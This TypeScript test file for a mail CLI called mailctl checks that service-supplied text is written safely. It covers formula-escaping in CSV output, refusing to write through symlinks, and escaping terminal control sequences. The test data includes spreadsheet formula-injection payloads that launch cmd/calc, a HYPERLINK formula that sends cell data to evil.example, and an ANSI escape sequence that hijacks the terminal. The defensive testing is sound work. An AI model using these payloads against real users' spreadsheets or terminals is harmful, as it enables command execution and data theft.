// What mailctl writes for a person from a HOSTILE service's words: CSV opened in a spreadsheet
// (a campaign name or subject that starts like a formula must stay text), a file the user names
// with --out (a symlink there is not written through), and messages on the terminal (no escape
// sequences get through).
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { runCli, tempDir } from './helpers/cli.js';
import { reply, useHostileServer } from './helpers/hostile-server.js';

const hs = useHostileServer();
const CALC = "=cmd|' /C calc'!A0";
const SUM = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const MINUS = "-2+3+cmd|' /C calc'!A0";
const FULLWIDTH = '＝HYPERLINK("http://evil.example/?x="&A1)';

describe('CSV for spreadsheets', () => {
  it('report metrics --csv: formula-like names and subjects are written as text, numbers stay numbers', async () => {
    hs.get().on('POST', '/campaign/v1/report/campaigns/metrics', reply.json([
      { campaignSn: 'CP1', name: CALC, subject: SUM, reportType: 'TOTAL', channel: 'MAIL', recipientCnt: 10, delivered: 8, bounced: 2, opened: 4, clicked: 1, complained: 0, unsubscribed: 0 },
      { campaignSn: 'CP2', name: MINUS, subject: FULLWIDTH, reportType: 'TOTAL', channel: 'MAIL', recipientCnt: 3, delivered: 3, bounced: 0, opened: 0, clicked: 0, complained: 0, unsubscribed: 0 },
    ]));
    const r = await runCli(['report', 'metrics', 'CP1', 'CP2', '--csv'], { env: hs.get().env });
    expect(r.exitCode).toBe(0);
    const rows = parse(r.stdout, { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((x) => [x.name, x.subject])).toEqual([[`'${CALC}`, `'${SUM}`], [`'${MINUS}`, `'${FULLWIDTH}`]]);
    expect(rows[0]).toMatchObject({ recipientCnt: '10', delivered: '8', openRate: '0.5' });
  });

  it('events --csv: a formula-like subject, even one that starts like a negative number, is written as text', async () => {
    hs.get().on('GET', '/notify/v1/events', reply.json({ logs: [
      { messageId: 'm1', status: 'delivery', eventTime: '2026-01-01T00:00:00Z', mail: { to: 'ann@example.com', subject: MINUS } },
      { messageId: 'm2', status: 'delivery', eventTime: '2026-01-01T00:00:01Z', mail: { to: '+ann@example.com', subject: FULLWIDTH } },
    ] }));
    const r = await runCli(['events', '--from', '7d', '--csv'], { env: hs.get().env });
    expect(r.exitCode).toBe(0);
    const rows = parse(r.stdout, { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((x) => [x.recipient, x.subject])).toEqual([['ann@example.com', `'${MINUS}`], ["'+ann@example.com", `'${FULLWIDTH}`]]);
  });
});

describe('template show --out FILE that is a symlink', () => {
  function planted(): { victim: string; link: string } {
    hs.get().on('GET', '/campaign/v1/templates/T1', reply.json({ id: 'T1', name: 'Welcome', template: '<p>from the service</p>', updateDate: '2026-01-01T00:00:00Z' }));
    const dir = tempDir();
    const victim = path.join(dir, 'victim.txt');
    fs.writeFileSync(victim, 'precious\n');
    const link = path.join(dir, 't.html');
    fs.symlinkSync(victim, link);
    return { victim, link };
  }

  it('refused (exit 2) naming the link, before anything is asked of the service', async () => {
    const { victim, link } = planted();
    const r = await runCli(['template', 'show', 'T1', '--out', link], { env: hs.get().env });
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain(`${link} (--out) is a symbolic link; mailctl does not write through links.`);
    expect(r.stderr).toContain('pass --force to replace the link itself');
    expect(hs.get().requests).toEqual([]);
    expect(fs.readFileSync(victim, 'utf8')).toBe('precious\n');
  });

  it('--force replaces the link itself with the file; what it pointed at is untouched', async () => {
    const { victim, link } = planted();
    const r = await runCli(['template', 'show', 'T1', '--out', link, '--force'], { env: hs.get().env });
    expect(r.exitCode).toBe(0);
    expect(fs.readFileSync(victim, 'utf8')).toBe('precious\n');
    expect(fs.lstatSync(link).isSymbolicLink()).toBe(false);
    expect(fs.readFileSync(link, 'utf8')).toBe('<p>from the service</p>');
  });
});

describe('service words on the terminal', () => {
  it('template list: the capacity line carries no escape sequence', async () => {
    hs.get().on('GET', '/campaign/v1/templates', reply.json({ capacity: '\u001b]0;owned\u0007\u001b[2J10', templates: [] }));
    const r = await runCli(['template', 'list'], { env: hs.get().env });
    expect(r.exitCode).toBe(0);
    expect(r.stderr).toContain('0 of \\e]0;owned\\x07\\e[2J10 templates used');
    expect(r.stderr).not.toContain('\u001b');
  });
});
